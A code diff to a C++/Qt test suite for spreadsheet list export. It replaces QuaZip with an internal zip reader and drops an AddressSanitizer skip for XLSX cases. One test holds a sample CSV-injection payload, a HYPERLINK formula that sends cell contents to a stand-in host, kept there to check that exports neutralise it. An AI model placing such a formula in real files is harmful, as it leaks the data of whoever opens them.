@@ -5,6 +5,7 @@
 // row in the list's order, only the filtered ones; no formula injection; a cancelled or
 // failed export leaves no file; a long cell is cut at Excel's limit.
 #include "dataio/sheetwriter.h"
+#include "dataio/xlsxreader.h"
 #include "dataset/writer.h"
 #include "models/customerlistmodel.h"
 #include "models/documentlist.h"
@@ -13,7 +14,6 @@
 #include "schema/database.h"
 #include "schema/domainschema.h"
 
-#include <quazipfile.h>
 
 #include <QDir>
 #include <QRegularExpression>
@@ -36,26 +36,14 @@ using Encoding = TextEncoding::Encoding;
 Q_DECLARE_METATYPE(SheetWriter::Format)
 Q_DECLARE_METATYPE(TextEncoding::Encoding)
 
-// Under AddressSanitizer libxlsxwriter is loaded without RTLD_DEEPBIND (the sanitizer
-// refuses it; sheetwriter.cpp) and its minizip calls land in QuaZip's, which this test
-// links to read the workbooks back: the .xlsx cases cannot run there.
-#if defined(__SANITIZE_ADDRESS__)
-#define SKIP_XLSX_UNDER_ASAN(format)                                                                                    \
-    if ((format) == SheetWriter::Format::Xlsx)                                                                          \
-    QSKIP("libxlsxwriter next to QuaZip needs RTLD_DEEPBIND, which AddressSanitizer refuses")
-#else
-#define SKIP_XLSX_UNDER_ASAN(format)
-#endif
 
 namespace {
 const QString Me = u"0192b6c8-0000-7000-8000-000000000001"_s;
 
 QByteArray unzipped(const QString &zip, const QString &member)
 {
-    QuaZipFile f(zip, member);
-    if (!f.open(QIODevice::ReadOnly))
-        return {};
-    return f.readAll();
+    QString error;
+    return XlsxReader::zipMember(zip, member, 1 << 30, &error);
 }
 
 QByteArray fileBytes(const QString &path)
@@ -237,7 +225,6 @@ void tst_ListExport::customersAsShown_data()
 void tst_ListExport::customersAsShown()
 {
     QFETCH(Format, format);
-    SKIP_XLSX_UNDER_ASAN(format);
     QFETCH(Encoding, encoding);
     CustomerListModel model(m_replica->database());
     CustomerListModel::Filter filter;
@@ -310,7 +297,6 @@ void tst_ListExport::documents()
 {
     QFETCH(DocumentList::Kind, kind);
     QFETCH(Format, format);
-    SKIP_XLSX_UNDER_ASAN(format);
     QFETCH(Encoding, encoding);
     const bool quotes = kind == DocumentList::Kind::Quotes;
     DocumentList list(kind, m_replica->database());
@@ -368,7 +354,6 @@ void tst_ListExport::formulasStayText()
 {
     // OWASP "CSV injection": a name that a spreadsheet would run.
     QFETCH(Format, format);
-    SKIP_XLSX_UNDER_ASAN(format);
     const QString file = path(format == Format::Xlsx ? u"formula.xlsx"_s : u"formula.csv"_s);
     const QString evil = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"_s;
     {
@@ -483,7 +468,6 @@ void tst_ListExport::diskFullIsAnError()
     // A full disk, as the process sees it: no file may grow past 64 KiB (RLIMIT_FSIZE; the
     // write fails with EFBIG instead of the signal). 2,500 customers need more.
     QFETCH(Format, format);
-    SKIP_XLSX_UNDER_ASAN(format);
     QTemporaryDir dir;
     const QString file = dir.path() + (format == Format::Xlsx ? u"/full.xlsx"_s : u"/full.csv"_s);
     CustomerListModel model(*m_big);
@@ -505,7 +489,6 @@ void tst_ListExport::diskFullIsAnError()
 
 void tst_ListExport::runsInTheBackground()
 {
-    SKIP_XLSX_UNDER_ASAN(Format::Xlsx);
     CustomerListModel model(*m_big);
     ListExport exporter(model, {CustomerListModel::Name, CustomerListModel::LastActivity});
     QSignalSpy progressed(&exporter, &ListExport::progressed);
@@ -532,7 +515,6 @@ void tst_ListExport::runsInTheBackground()
 
 void tst_ListExport::csvQuotingAndLongCells()
 {
-    SKIP_XLSX_UNDER_ASAN(Format::Xlsx);
     const QString csv = path(u"quoting.csv"_s);
     const QString xlsx = path(u"long.xlsx"_s);
     const QString longText = QString(40000, u'长');
